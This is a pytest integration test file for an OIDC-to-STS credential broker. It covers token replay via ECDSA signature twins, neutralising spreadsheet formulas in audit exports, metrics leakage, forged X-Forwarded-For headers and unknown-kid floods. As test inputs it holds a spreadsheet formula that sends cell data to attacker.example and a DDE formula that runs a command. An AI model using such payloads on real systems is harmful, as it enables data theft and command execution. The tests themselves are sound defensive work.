"""Second security round over real HTTP: a real broker process, the local OIDC issuer and moto.

Each test asserts the answer (status, RFC 6749 error), the audit records the broker wrote, and
the upstream calls it made: an `intent` record precedes every STS call, so counting intents
counts calls to the upstream; the issuer's /stats counts JWKS fetches.
"""

from __future__ import annotations

import base64
import csv
import io
import json
import os
import secrets
import threading
import time
import urllib.error
import urllib.parse
import urllib.request
from collections import Counter
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import schemathesis
from hypothesis import HealthCheck, given, settings
from hypothesis.errors import Unsatisfiable
from schemathesis import GenerationMode
from stack import Stack, audit_events, start_stack, tally_counts

from broker.audit.events import Outcome
from broker.config import ConfigError
from broker.config_lint import load_config
from broker.dev.harness import Broker, policy_toml, start_broker, start_dev_issuer
from broker.dev.processes import free_port

pytestmark = pytest.mark.integration

P256_ORDER = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551


def further_config(
    stack: Stack,
    workdir: Path,
    *,
    broker_extra: str = "",
    issuer_url: str | None = None,
    cooldown: str = "1s",
) -> str:
    """A policy for a further broker on the stack's moto (and issuer), with its own audit."""
    text = policy_toml(
        issuer_url=issuer_url or stack.issuer.url,
        audit_db=workdir / "audit.db",
        listen=f"127.0.0.1:{free_port()}",
        moto_url=stack.moto.url,
        role_arn=stack.role_arn,
        broker_extra=broker_extra,
    )
    return text.replace('jwks_refetch_cooldown = "1s"', f'jwks_refetch_cooldown = "{cooldown}"')


@pytest.fixture(scope="module")
def stack(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stack]:
    """Issuer + moto + a broker whose issuer has `require_jti = false` (tokens without jti)."""
    s = start_stack(tmp_path_factory.mktemp("security"), issuer_extra="require_jti = false")
    try:
        yield s
    finally:
        s.stop()


def _b64(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def _unb64(text: str) -> bytes:
    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))


# -- ECDSA signature twins ------------------------------------------------------------------------


def test_spent_es256_token_without_jti_is_refused_as_its_signature_twin(stack: Stack) -> None:
    """An ES256 token without jti and its re-encoded twin (r, n - s) are one token: whichever is
    presented first is exchanged, the other is refused as replayed and nothing reaches STS."""
    token = stack.issuer.mint("gitlab", alg="ES256", jti=None)
    assert "jti" not in json.loads(_unb64(token.split(".")[1]))
    header, payload, signature = token.split(".")
    raw = _unb64(signature)
    s = int.from_bytes(raw[32:], "big")
    twin = f"{header}.{payload}.{_b64(raw[:32] + (P256_ORDER - s).to_bytes(32, 'big'))}"
    # The twin first: whichever S the issuer produced, the other form is accepted as well.
    status, body, _ = stack.broker.exchange(twin)
    assert status == 200, body
    first = stack.events_for(body["request_id"])
    assert [e.outcome for e in first] == [Outcome.INTENT, Outcome.ISSUED]

    status, body, _ = stack.broker.exchange(token)
    assert (status, body["error"]) == (400, "invalid_request")
    records = stack.events_for(body["request_id"])
    assert [(e.outcome, e.reason) for e in records] == [(Outcome.DENIED, "token_replayed")]
    assert not records[0].session_id  # no session, no intent: STS was not called
    status, body, _ = stack.broker.exchange(twin)
    assert [e.reason for e in stack.events_for(body["request_id"])] == ["token_replayed"]


# -- spreadsheet injection ------------------------------------------------------------------------

FORMULA_TASK = '=HYPERLINK("http://attacker.example/?"&A1,"x")'
FORMULA_GRANT = "@SUM(1+1)*cmd|' /C calc'!A0"


def _csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_audit_csv_export_and_report_neutralise_formulas(stack: Stack) -> None:
    """A task and an audience starting with = or @ reach the audit as sent; `audit export
    --format csv` and `audit report --format csv` write them with a leading apostrophe, JSON
    lines keep them exact, and the HTML report escapes them."""
    status, body, _ = stack.broker.exchange(stack.issuer.mint("gitlab"), task=FORMULA_TASK)
    assert status == 200, body
    issued = stack.events_for(body["request_id"])
    assert [e.outcome for e in issued] == [Outcome.INTENT, Outcome.ISSUED]
    assert issued[-1].task == FORMULA_TASK
    status, body, _ = stack.broker.exchange(stack.issuer.mint("gitlab"), grant=FORMULA_GRANT)
    assert (status, body["error"]) == (400, "invalid_target")
    denied = stack.events_for(body["request_id"])
    assert [(e.outcome, e.grant) for e in denied] == [(Outcome.DENIED, FORMULA_GRANT)]

    result = stack.broker.cli("audit", "export", "--format", "csv")
    assert result.returncode == 0, result.stderr
    cells = _csv_cells(result.stdout)
    assert "'" + FORMULA_TASK in cells and "'" + FORMULA_GRANT in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]

    result = stack.broker.cli("audit", "export", "--format", "jsonl")
    rows = [json.loads(line) for line in result.stdout.splitlines()]
    assert FORMULA_TASK in {r["task"] for r in rows}
    assert FORMULA_GRANT in {r["grant"] for r in rows}

    result = stack.broker.cli("audit", "report", "--format", "csv", "--since", "1d")
    assert result.returncode == 0, result.stderr
    cells = _csv_cells(result.stdout)
    assert "'" + FORMULA_GRANT in cells  # the denials section names the grant asked for
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]

    result = stack.broker.cli("audit", "report", "--format", "html", "--since", "1d")
    assert result.returncode == 0, result.stderr
    assert "@SUM(1+1)*cmd|&#x27; /C calc&#x27;!A0" in result.stdout
    assert FORMULA_GRANT not in result.stdout


# -- grant names through /metrics -----------------------------------------------------------------


def _requests_metric(broker: Broker) -> dict[tuple[str, str], float]:
    """luigi_creds_requests_total for endpoint=token, keyed by (grant, outcome)."""
    _, text = broker.get("/metrics")
    values: dict[tuple[str, str], float] = {}
    for line in text.splitlines():
        if line.startswith('luigi_creds_requests_total{endpoint="token"'):
            labels, value = line.rsplit(" ", 1)
            grant = labels.split('grant="', 1)[1].split('"', 1)[0]
            outcome = labels.split('outcome="', 1)[1].split('"', 1)[0]
            values[(grant, outcome)] = float(value)
    return values


def test_metrics_label_a_grant_only_after_the_request_authenticated(stack: Stack) -> None:
    """Junk naming a real grant and junk naming no grant count under the same fixed label, so
    /metrics does not tell which grants exist; an authenticated request is labelled."""
    before = _requests_metric(stack.broker)
    junk = stack.issuer.mint("gitlab").rsplit(".", 1)[0] + ".AAAA"
    for grant in ("etl-writer", "no-such-grant"):
        tallied = stack.tallies()
        status, body, _ = stack.broker.exchange(junk, grant=grant)
        assert (status, body["error"]) == (400, "invalid_request")
        grown = stack.assert_tallied(body["request_id"], tallied, "bad_signature")
        assert grown[("exchange", "denied", "bad_signature")] == 1
    after = _requests_metric(stack.broker)
    assert after.get(("etl-writer", "invalid_request"), 0) == before.get(
        ("etl-writer", "invalid_request"), 0
    )
    assert after[("-", "invalid_request")] == before.get(("-", "invalid_request"), 0) + 2

    # Authenticated but refused by the policy: now the grant is named.
    other = stack.issuer.mint("gitlab", project_id="1")
    status, body, _ = stack.broker.exchange(other, grant="etl-writer")
    assert (status, body["error"]) == (400, "invalid_target")
    records = stack.events_for(body["request_id"])
    assert [e.outcome for e in records] == [Outcome.DENIED]  # no intent: STS not called
    final = _requests_metric(stack.broker)
    assert (
        final[("etl-writer", "invalid_target")]
        == before.get(("etl-writer", "invalid_target"), 0) + 1
    )


# -- forwarded headers ----------------------------------------------------------------------------

FORGED_CLIENT = "203.0.113.9"


def _exchange_forwarded(broker: Broker, token: str) -> tuple[int, dict[str, Any]]:
    """An exchange sent from 127.0.0.1 that claims, in X-Forwarded-For, to come from elsewhere."""
    data = urllib.parse.urlencode(
        {
            "grant_type": "urn:ietf:params:oauth:grant-type:token-exchange",
            "subject_token": token,
            "subject_token_type": "urn:ietf:params:oauth:token-type:jwt",
            "audience": "etl-writer",
        }
    ).encode("ascii")
    request = urllib.request.Request(
        broker.url + "/v1/token",
        data=data,
        headers={
            "Content-Type": "application/x-www-form-urlencoded",
            "X-Forwarded-For": FORGED_CLIENT,
        },
        method="POST",
    )
    try:
        with urllib.request.urlopen(request, timeout=30) as response:
            return response.status, json.loads(response.read())
    except urllib.error.HTTPError as exc:
        return exc.code, json.loads(exc.read())


def test_forwarded_for_from_loopback_is_ignored_by_default(stack: Stack) -> None:
    """Without trusted_proxies, X-Forwarded-For from 127.0.0.1 is not believed: every audit
    record of the exchange (intent and issued) names the socket's peer."""
    status, body = _exchange_forwarded(stack.broker, stack.issuer.mint("gitlab"))
    assert status == 200, body
    records = stack.events_for(body["request_id"])
    assert [e.outcome for e in records] == [Outcome.INTENT, Outcome.ISSUED]
    assert {e.client_addr for e in records} == {"127.0.0.1"}


@pytest.mark.parametrize(
    ("trusted", "expected"),
    [
        (["127.0.0.1"], FORGED_CLIENT),
        (["127.0.0.0/8"], FORGED_CLIENT),
        (["10.0.0.0/8"], "127.0.0.1"),
    ],
    ids=["loopback-ip", "loopback-network", "other-proxy"],
)
def test_forwarded_for_is_honoured_only_from_a_configured_proxy(
    stack: Stack, tmp_path: Path, trusted: list[str], expected: str
) -> None:
    """With trusted_proxies naming the peer, its X-Forwarded-For is the audited client address,
    also on a denial; a proxy list that does not include the peer leaves the header ignored."""
    broker = start_broker(
        tmp_path,
        further_config(stack, tmp_path, broker_extra=f"trusted_proxies = {json.dumps(trusted)}"),
        env=stack.moto.broker_env,
    )
    try:
        status, body = _exchange_forwarded(broker, stack.issuer.mint("gitlab"))
        assert status == 200, body
        records = [
            e for e in audit_events(tmp_path / "audit.db") if e.request_id == body["request_id"]
        ]
        assert [e.outcome for e in records] == [Outcome.INTENT, Outcome.ISSUED]
        assert {e.client_addr for e in records} == {expected}
        junk = stack.issuer.mint("gitlab").rsplit(".", 1)[0] + ".AAAA"
        status, body = _exchange_forwarded(broker, junk)
        assert status == 400
    finally:
        broker.stop()  # writes the tally of unauthenticated refusals
    events = audit_events(tmp_path / "audit.db")
    assert not [e for e in events if e.request_id == body["request_id"]]
    (tally,) = [e for e in events if e.outcome == Outcome.TALLIED]
    assert tally.detail["clients"] == [{"client_addr": expected, "count": 1}]


@pytest.mark.parametrize("value", ["*", "proxy.internal", "10.0.0.0/33"])
def test_trusted_proxies_must_be_addresses_or_networks(tmp_path: Path, value: str) -> None:
    """`*` (trust everyone), host names and bad networks are refused by the loader."""
    path = tmp_path / "broker.toml"
    path.write_text(
        f'[broker]\ntrusted_proxies = ["{value}"]\n'
        '[[issuer]]\nname = "gitlab"\nurl = "https://gitlab.com"\naudiences = ["x"]\n',
        encoding="utf-8",
    )
    with pytest.raises(ConfigError, match="trusted_proxies"):
        load_config(path)


# -- unknown kid during the refetch cooldown ------------------------------------------------------


def test_key_rotation_succeeds_during_a_random_kid_flood(stack: Stack, tmp_path: Path) -> None:
    """Random kids flood the broker while the issuer rotates its key. The rotated token, arriving
    while the flood holds the refetch cooldown, is answered 503 with Retry-After (audited as
    kid_refetch_pending), and succeeds when retried after it; the flood costs at most one JWKS
    fetch per cooldown and never reaches STS."""
    cooldown = 3
    issuer = start_dev_issuer(tmp_path / "issuer")
    broker = start_broker(
        tmp_path,
        further_config(
            stack,
            tmp_path,
            issuer_url=issuer.url,
            cooldown="3s",
            # The flood and the rotated token share 127.0.0.1: this test is about the JWKS
            # cooldown, so the per-client failure limit must not shed the flood first.
            broker_extra="rate_limit_client_failures = { per_second = 10000, burst = 100000 }",
        ),
        env=stack.moto.broker_env,
    )
    audit_db = tmp_path / "audit.db"
    stop = threading.Event()
    flood_statuses: list[int] = []
    template = issuer.mint("gitlab")

    def flood() -> None:
        header, payload, signature = template.split(".")
        while not stop.is_set():
            kid = secrets.token_urlsafe(8)
            forged = json.loads(_unb64(header)) | {"kid": kid}
            token = f"{_b64(json.dumps(forged).encode())}.{payload}.{signature}"
            flood_statuses.append(broker.exchange(token)[0])

    try:
        assert broker.exchange(issuer.mint("gitlab"))[0] == 200
        fetches_before = issuer.stats()["jwks_fetches"]
        threads = [threading.Thread(target=flood) for _ in range(2)]
        started = time.monotonic()
        for thread in threads:
            thread.start()
        while len(flood_statuses) < 5:  # the flood has spent the refetch: cooldown running
            time.sleep(0.01)
        issuer.rotate("RS256")
        token = issuer.mint("gitlab")
        answers: list[tuple[int, str, int]] = []
        for _ in range(4):
            status, body, headers = broker.exchange(token)
            answers.append((status, body.get("error", ""), int(headers.get("Retry-After") or 0)))
            if status != 503:
                break
            assert 1 <= int(headers["Retry-After"]) <= cooldown
            time.sleep(int(headers["Retry-After"]))
        stop.set()
        for thread in threads:
            thread.join()
        elapsed = time.monotonic() - started
        fetches = issuer.stats()["jwks_fetches"] - fetches_before
    finally:
        stop.set()
        broker.stop()
        issuer.stop()

    assert answers[0][:2] == (503, "temporarily_unavailable"), answers
    assert answers[-1][0] == 200, answers
    assert len(answers) <= 3, answers  # at most: pending, (pending while the flood refetched), ok
    events = audit_events(audit_db)
    ok_id = body["request_id"]
    assert [e.outcome for e in events if e.request_id == ok_id] == [Outcome.INTENT, Outcome.ISSUED]
    # The rotated token's 503s proved no identity yet: counted in the tally, not one by one.
    tallied = tally_counts(audit_db)
    assert tallied[("exchange", "error", "kid_refetch_pending")] >= 1
    assert set(flood_statuses) <= {400, 503}
    assert 400 in flood_statuses and 503 in flood_statuses
    intents = [e for e in events if e.outcome == Outcome.INTENT]
    assert len(intents) == 2  # the warm-up and the rotated token: the flood never reached STS
    # One refetch per cooldown at most (plus the one a fetch in progress may straddle).
    assert 1 <= fetches <= elapsed / cooldown + 2, (fetches, elapsed)
    # A final "unknown kid" only from a request that refetched.
    assert tallied[("exchange", "denied", "unknown_kid")] <= fetches
    print(
        f"flood: {len(flood_statuses)} requests in {elapsed:.1f} s "
        f"({len(flood_statuses) / elapsed:.0f}/s), {fetches} JWKS fetches, answers {answers}"
    )


# -- schemathesis against the running broker ------------------------------------------------------

SCHEMA_EXAMPLES = int(os.environ.get("LUIGI_CREDS_SCHEMA_EXAMPLES", "60"))
MAX_RESPONSE_SECONDS = 5.0


@dataclass
class FuzzTally:
    ran: Counter[str]
    statuses: Counter[int]
    slowest: float = 0.0


def _fuzz_operation(operation: Any, mode: GenerationMode, base_url: str, tally: FuzzTally) -> None:
    """Run schemathesis' cases for one operation and generation mode against `base_url`."""

    @settings(
        max_examples=SCHEMA_EXAMPLES,
        deadline=None,
        derandomize=True,
        database=None,
        suppress_health_check=list(HealthCheck),
    )
    @given(case=operation.as_strategy(generation_mode=mode))
    def call(case: schemathesis.Case) -> None:
        started = time.monotonic()
        response = case.call(base_url=base_url, timeout=30)
        elapsed = time.monotonic() - started
        tally.slowest = max(tally.slowest, elapsed)
        tally.ran[f"{case.method} {case.path} {mode.value}"] += 1
        tally.statuses[response.status_code] += 1
        assert response.status_code < 500, (case.body, response.text)
        assert elapsed < MAX_RESPONSE_SECONDS, (case.body, elapsed)

    try:
        call()
    except Unsatisfiable:
        # GET /healthz and friends take no input: nothing can violate their schema.
        assert mode is GenerationMode.NEGATIVE and operation.method.lower() == "get"


def test_schemathesis_finds_no_5xx_and_no_slow_answer(stack: Stack) -> None:
    """Every operation of /openapi.json, with schema-valid and schema-violating inputs
    (schemathesis, derandomised): no 5xx, every answer within 5 s, the broker still healthy, and
    the ledger still verifies after all those refusals."""
    schema = schemathesis.openapi.from_url(stack.broker.url + "/openapi.json")
    operations = [result.ok() for result in schema.get_all_operations()]
    assert {op.path for op in operations} >= {"/v1/token", "/v1/revoke", "/v1/explain"}
    tally = FuzzTally(Counter(), Counter())
    for operation in operations:
        for mode in (GenerationMode.POSITIVE, GenerationMode.NEGATIVE):
            _fuzz_operation(operation, mode, stack.broker.url, tally)
    total = sum(tally.ran.values())
    print(
        f"schemathesis: {total} cases, statuses {dict(tally.statuses)}, "
        f"slowest {tally.slowest:.2f} s; per operation {dict(tally.ran)}"
    )
    assert total >= len(operations) * 10
    assert stack.broker.get("/healthz")[0] == 200
    result = stack.broker.cli("audit", "verify")
    assert result.returncode == 0, result.stdout + result.stderr
